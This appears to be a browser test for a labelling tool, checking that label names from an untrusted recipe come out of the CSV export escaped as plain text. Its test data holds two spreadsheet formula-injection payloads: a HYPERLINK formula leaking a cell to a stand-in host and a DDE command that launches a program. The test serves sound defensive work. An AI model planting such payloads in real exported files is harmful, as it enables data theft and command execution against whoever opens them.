/** @file Labels out of a stranger's recipe that a spreadsheet would run: they come out of the page as texts. */
import { expect, test } from 'vitest';
import { downloadText } from '../../bench/driving/page.mjs';
import { readCsv } from '../../helpers/files/read-back';
import { dropFiles, openPage, useDist, waitForRun } from '../browser';

const dist = useDist();
const LABELS = [
  { name: '=HYPERLINK("http://evil.example/?"&A2)', keywords: ['apple'] },
  { name: "+cmd|' /C calc'!A0", keywords: ['saw'] },
  { name: '-', keywords: ['moon'] },
];
const RECIPE = JSON.stringify({
  ...{ shortlist: 1, task: { textColumn: 'text', labels: LABELS }, teacher: { kind: 'keywords' } },
  ...{ student: { epochs: 1 }, labels: { policy: 'teacher' } },
});

test('labels.csv runs nothing, and leaves a label that is only a sign as it is', async () => {
  const context = await dist.browser.newContext();
  const { page } = await openPage(context, dist.url);
  await dropFiles(page, {
    'table.csv': 'text\nan apple\na saw\na moon\n',
    'my.recipe.json': RECIPE,
  });
  await waitForRun(page, 'done');
  const [, ...rows] = readCsv(await downloadText(page, 'export-labels'));
  const [first, second] = LABELS.map(({ name }) => `'${name}`);
  expect(rows.map((cells) => [cells[1], cells[4]])).toEqual([
    [first, first],
    [second, second],
    ['-', '-'],
  ]);
  await context.close();
});
